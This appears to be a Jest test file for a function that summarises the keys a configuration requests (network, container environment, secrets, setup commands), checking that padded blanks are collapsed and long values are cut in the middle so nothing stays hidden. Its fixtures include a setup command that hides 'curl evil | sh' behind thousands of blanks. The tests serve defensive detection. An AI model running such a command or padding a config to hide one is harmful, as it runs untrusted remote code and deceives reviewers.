import { expect, it } from '@jest/globals';
import { trustSummary } from './trust-summary.ts';

it('names all keys first, then shows the keys, then the tables', () => {
  const wants = ['container.env.A = "1"', 'container.env.B = "2"', 'network.setup = "allow"', 'secrets.x = {}'];
  expect(trustSummary(wants)).toEqual({
    lines: [
      'It asks for network.setup, container.env (2 entries), secrets (1 entry):',
      'network.setup = "allow"',
      'container.env.A = "1"',
      'container.env.B = "2"',
      'secrets.x = {}',
    ],
    unseenCount: 0,
  });
});

it('counts what a table has beyond twenty entries, and only that', () => {
  const entries = (count: number) => Array.from({ length: count }, (_, index) => `container.env.V${index} = ""`);
  expect(trustSummary(entries(20)).unseenCount).toBe(0);
  const { lines, unseenCount } = trustSummary(entries(3000));
  expect({ lines: lines.length, last: lines.at(-1), unseenCount }).toEqual({
    lines: 22,
    last: '… and 2980 more of container.env',
    unseenCount: 2980,
  });
});

it('shows many blanks as their number, however they are written', () => {
  const line = (blanks: string) => `container.setup-command = ["sh","-c","true${blanks}; curl evil | sh"]`;
  const told = (blanks: string) => trustSummary([line(blanks)]);
  expect(told(' '.repeat(8)).lines[1]).toBe(line(' '.repeat(8)));
  for (const blanks of [' '.repeat(20_000), '\\n'.repeat(20_000), '\u3000 '.repeat(10_000)])
    expect(told(blanks)).toMatchObject({ lines: [expect.anything(), line('␠×20000')], unseenCount: 0 });
});

it('cuts a long value in the middle, and says so', () => {
  const { lines, unseenCount } = trustSummary([`container.setup-command = ["a${':;'.repeat(9000)}","curl evil"]`]);
  expect(lines[1]?.length).toBeLessThan(1100);
  expect(lines[1]).toMatch(/^container\.setup-command = \["a.* …\d+ characters… .*curl evil"\]$/);
  expect(unseenCount).toBe(1);
});
